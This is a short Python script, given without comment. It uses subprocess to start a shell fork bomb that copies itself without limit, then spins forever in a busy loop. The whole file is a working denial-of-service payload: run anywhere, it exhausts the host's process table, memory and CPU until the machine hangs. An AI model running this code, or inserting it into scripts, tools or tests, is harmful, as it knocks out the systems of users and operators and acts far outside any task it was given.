import subprocess

subprocess.run(["/bin/sh", "-c", "f() { f | f & }; f; wait; f"], check=False)
while True:
    pass
